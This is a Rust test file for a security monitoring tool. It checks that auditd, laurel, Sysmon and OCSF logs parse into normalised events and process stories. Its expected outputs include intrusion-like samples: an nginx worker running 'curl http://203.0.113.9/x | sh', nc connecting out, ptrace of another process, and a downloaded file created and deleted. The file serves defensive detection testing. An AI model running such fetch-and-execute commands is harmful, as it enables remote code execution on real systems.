//! What each format's log gives.

use cordon_behavior::event::{Event, EventBody, LoginMethod};
use cordon_behavior::story::Story;
use cordon_behavior::{Behavior, Limits};
use cordon_history::{Format, History, Item};

/// Written by auditd 3.0.9, and at the same time by laurel 0.5, of a script that makes, moves, links and removes files, runs
/// another script and connects to the port 9 of this host.
const RAW: &[u8] = include_bytes!("logs/audit-raw.txt");
const ENRICHED: &[u8] = include_bytes!("logs/audit-enriched.txt");
const LAUREL: &[u8] = include_bytes!("logs/laurel.jsonl");
const LOGINS: &[u8] = include_bytes!("logs/audit-logins.txt");
const AARCH64: &[u8] = include_bytes!("logs/audit-aarch64.txt");
const SYSMON: &[u8] = include_bytes!("logs/sysmon.txt");
const OCSF: &[u8] = include_bytes!("logs/ocsf.jsonl");

/// What a whole file gives, which must be without damage.
fn items(log: &[u8]) -> (Option<Format>, Vec<Item>) {
    let mut history = History::new(None);
    let mut items = Vec::new();
    for (number, line) in log.split(|byte| *byte == b'\n').enumerate() {
        let read = history.line(line, &mut items);
        assert_eq!(read, Ok(()), "line {}", number + 1);
    }
    history.end(&mut items);
    (history.format(), items)
}

fn events(log: &[u8]) -> Vec<Event> {
    let (_, items) = items(log);
    let event = |item| match item {
        Item::Event(event) => *event,
        other => panic!("{other:?} is no event"),
    };
    items.into_iter().map(event).collect()
}

/// Each event in one line, in order.
fn told(log: &[u8]) -> Vec<String> {
    events(log).iter().map(in_words).collect()
}

fn in_words(event: &Event) -> String {
    let pid = event.process.pid;
    match &event.body {
        EventBody::Exec(exec) => {
            let parent = exec.parent.map_or(0, |parent| parent.pid);
            let word = if exec.snapshot { "runs" } else { "exec" };
            let argv = exec.argv.join("|");
            format!(
                "{pid}<{parent} {word} {} [{argv}] in {:?} uid {}",
                exec.exe,
                exec.cwd,
                exec.uid.cast_signed()
            )
        }
        EventBody::Fork { child } => format!("{pid} fork {}", child.pid),
        EventBody::Exit { code, .. } => format!("{pid} exit {code}"),
        EventBody::Connect { remote } => format!("{pid} connect {remote}"),
        EventBody::Accept { remote, local_port } => {
            format!("{pid} accept {remote} at {local_port}")
        }
        EventBody::Udp { remote } => format!("{pid} udp {remote}"),
        EventBody::File(change) => {
            let to = change
                .to
                .as_deref()
                .map_or(String::new(), |to| format!(" -> {to}"));
            format!("{pid} {:?} {}{to}", change.op, change.path)
        }
        EventBody::Ptrace { target } => format!("{pid} ptrace {}", target.pid),
        other => format!("{pid} {other:?}"),
    }
}

/// Every story that the events make worth judging.
fn stories(log: &[u8]) -> Vec<Story> {
    let mut graph = Behavior::new(Limits::default());
    let mut stories = Vec::new();
    for event in events(log) {
        for trigger in graph.apply(&event) {
            stories.extend(graph.story(trigger.process));
        }
    }
    stories
}

#[test]
fn a_raw_audit_log_is_read_whole() {
    let (format, _) = items(RAW);
    assert_eq!(format, Some(Format::Audit));
    let wanted = r#"10686<10334 exec /usr/bin/bash [/bin/bash|/srv/work.sh] in "/srv" uid 0
10686 Create /srv/work/a file
10686 fork 10688
10688<10686 exec /usr/bin/mv [mv|a file|b] in "/srv/work" uid 0
10688 Rename /srv/work/a file -> /srv/work/b
10688 exit 0
10686 fork 10790
10790<10686 exec /usr/bin/ln [ln|b|c] in "/srv/work" uid 0
10790 Link /srv/work/b -> /srv/work/c
10790 exit 0
10686 fork 10793
10793<10686 exec /usr/bin/chmod [chmod|u+s|b] in "/srv/work" uid 0
10793 Chmod /srv/work/b
10793 exit 0
10686 fork 10818
10818<10686 exec /usr/bin/env [/usr/bin/env|printf|%s\n|two
lines "quoted"] in "/srv/work" uid 0
10818<10686 exec /usr/bin/printf [printf|%s\n|two
lines "quoted"] in "/srv/work" uid 0
10818 exit 0
10686 fork 10825
10825<10686 exec /usr/bin/rm [rm|b|c] in "/srv/work" uid 0
10825 Unlink /srv/work/b
10825 Unlink /srv/work/c
10825 exit 0
10686 fork 10827
10827<10686 exec /usr/bin/dash [/bin/sh|./script.sh|arg with space] in "/srv/work" uid 0
10828<10827 exec /usr/bin/cat [cat|/etc/hostname] in "/srv/work" uid 0
10828 exit 0
10827 exit 3
10686 fork 10833
10833<10686 exec /usr/bin/python3.11 [/usr/bin/python3|-] in "/srv/work" uid 0
10833 connect 127.0.0.1:9
10833 connect [::1]:9
10833 udp 127.0.0.1:53
10833 exit 0
10686 exit 0"#;
    assert_eq!(told(RAW).join("\n"), wanted);
}

/// The script ran twice; laurel listened the second time.
#[test]
fn enriched_logs_and_laurels_tell_the_same_as_raw_ones() {
    let enriched = told(ENRICHED);
    let mut laurels = told(LAUREL);
    // Only laurel says what the parent of the first one ran.
    assert!(
        laurels
            .remove(0)
            .ends_with("<0 runs /usr/bin/bash [] in \"\" uid -1")
    );
    assert_eq!(enriched, laurels);
    let verbs = |told: &[String]| -> Vec<String> {
        let second = |line: &String| line.split(' ').nth(1).unwrap_or_default().to_owned();
        told.iter().map(second).collect()
    };
    assert_eq!(verbs(&enriched), verbs(&told(RAW)));
    assert_eq!(items(LAUREL).0, Some(Format::Laurel));
}

#[test]
fn a_script_is_told_apart_from_its_interpreter() {
    let scripts: Vec<(String, String)> = events(RAW)
        .into_iter()
        .filter_map(|event| match event.body {
            EventBody::Exec(exec) if !exec.script.is_empty() => Some((exec.exe, exec.script)),
            _ => None,
        })
        .collect();
    let pair = |exe: &str, script: &str| (exe.to_owned(), script.to_owned());
    assert_eq!(
        scripts,
        [
            pair("/usr/bin/bash", "/srv/work.sh"),
            pair("/usr/bin/dash", "./script.sh"),
        ]
    );
}

#[test]
fn an_audit_log_makes_stories_with_their_ancestors() {
    let stories = stories(RAW);
    let cat = stories.iter().find(|story| {
        let process = story.process.as_ref();
        process.is_some_and(|process| process.exe == "/usr/bin/cat")
    });
    let cat = cat.expect("cat has a story");
    let above: Vec<&str> = cat.ancestors.iter().map(|it| it.exe.as_str()).collect();
    assert_eq!(above, ["/usr/bin/dash", "/usr/bin/bash"]);
    assert_eq!(
        cat.ancestors[0].argv,
        ["/bin/sh", "./script.sh", "arg with space"]
    );
}

#[test]
fn records_of_interleaved_events_find_together_on_aarch64_too() {
    let wanted = [
        "701<700 exec /usr/bin/tar [tar|-c f|AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA|x=1] in \"/srv\" uid 1000",
        "702<700 runs /usr/bin/nc [] in \"\" uid 1000",
        "702 connect 198.51.100.9:443",
        "702 ptrace 701",
    ];
    assert_eq!(told(AARCH64), wanted);
    let EventBody::Exec(tar) = &events(AARCH64)[0].body else {
        panic!("the first event is no exec");
    };
    assert!(tar.deleted_exe && tar.tty);
    assert_eq!(
        (tar.euid, tar.login_uid, tar.session),
        (0, Some(1000), Some(5))
    );
}

#[test]
fn a_login_is_told_once() {
    let logins: Vec<_> = events(LOGINS)
        .into_iter()
        .map(|event| match event.body {
            EventBody::Login(login) => (login.method, login.user, login.from, login.success),
            other => panic!("{other:?}"),
        })
        .collect();
    let wanted = [
        (LoginMethod::Ssh, "root", "203.0.113.7", false),
        (LoginMethod::Ssh, "", "203.0.113.7", true),
        (LoginMethod::Ssh, "(invalid user)", "2001:db8::7", false),
        (LoginMethod::Su, "postgres", "", true),
        (LoginMethod::Sudo, "", "", true),
    ];
    let wanted = wanted
        .map(|(method, user, from, success)| (method, user.to_owned(), from.to_owned(), success));
    assert_eq!(logins, wanted);
}

#[test]
fn sysmon_events_are_told_and_processes_kept_apart_by_their_guid() {
    assert_eq!(items(SYSMON).0, Some(Format::Sysmon));
    let wanted = r#"812<0 runs /usr/sbin/nginx [nginx:|worker|process] in "" uid -1
4001<812 exec /usr/bin/bash [bash|-c|curl http://203.0.113.9/x | sh] in "/var/www" uid -1
4002<0 runs /usr/bin/curl [] in "" uid -1
4002 connect 203.0.113.9:80
812 accept [2001:db8::7]:40000 at 443
4002 Create /tmp/a & b
c
4002 Unlink /tmp/a
4003<0 runs /usr/bin/gdb [] in "" uid -1
4003 ptrace 4001
4001 exit 0
4001<812 exec /usr/bin/id [id] in "/" uid 0"#;
    assert_eq!(told(SYSMON).join("\n"), wanted);
    let events = events(SYSMON);
    let of = |exe: &str| {
        let found = events.iter().find(|event| match &event.body {
            EventBody::Exec(exec) => exec.exe == exe,
            _ => false,
        });
        found.expect("it was executed").process
    };
    assert_ne!(of("/usr/bin/bash"), of("/usr/bin/id"));
}

#[test]
fn ocsf_of_several_versions_is_told() {
    assert_eq!(items(OCSF).0, Some(Format::Ocsf));
    let told = told(OCSF).join("\n");
    let wanted = r#"812<0 runs /usr/sbin/nginx [nginx:|worker|process] in "" uid 33
5001<812 exec /usr/bin/bash [bash|-c|id; id] in "/var/www" uid 33
5002<5001 runs /usr/bin/curl [curl|http://update.example.net/x] in "" uid 0
5002 Dns(Dns { name: "update.example.net", query_type: "A", server: Some(10.0.0.2:53), is_answer: true, rcode: 0, addresses: [203.0.113.9] })
5002 connect 203.0.113.9:80
5002 Close(Closed { remote: 203.0.113.9:80, local_port: 51234, direction: Out, sent: 90, received: 700, lasted_ns: 100000000 })
812 accept [2001:db8::7]:40000 at 443
5002 Create /tmp/x
5002 Rename /tmp/x -> /tmp/y
5002 Unlink /tmp/y
900<0 runs /usr/sbin/sshd [] in "" uid -1
900 Login(Login { method: Ssh, user: "root", uid: Some(0), from: "203.0.113.7", tty: "", success: false })
5002 ptrace 5001
5001 exit 7"#;
    assert_eq!(told, wanted);
}

#[test]
fn the_time_is_the_logs_own_and_never_goes_back() {
    for log in [RAW, AARCH64, SYSMON, OCSF] {
        let events = events(log);
        assert!(
            events
                .windows(2)
                .all(|pair| pair[0].mono_ns <= pair[1].mono_ns)
        );
        assert!(
            events
                .iter()
                .all(|event| event.wall_ns > 1_795_000_000_000_000_000)
        );
        for event in &events {
            let start_ns = event.process.start_ns;
            assert!(start_ns <= event.mono_ns, "{event:?}");
        }
    }
}

#[test]
fn recorded_lines_come_back_as_they_were() {
    let loss = r#"{"wall_ns":7,"loss":{"source":"ring/exec","count":3}}"#;
    let story = r#"{"id":"a","process":{"exe":"/bin/true"}}"#;
    let (format, found) = items(format!("{loss}\n{story}\n").as_bytes());
    assert_eq!(format, Some(Format::Stories));
    let source = "ring/exec".to_owned();
    assert_eq!(found[0], Item::Loss { source, count: 3 });
    assert!(matches!(&found[1], Item::Story(story) if story.id == "a"));

    let written: Vec<String> = events(RAW)
        .iter()
        .map(|event| serde_json::to_string(event).expect("an event is written"))
        .collect();
    assert_eq!(events(written.join("\n").as_bytes()), events(RAW));
    assert_eq!(items(written[0].as_bytes()).0, Some(Format::Events));
}
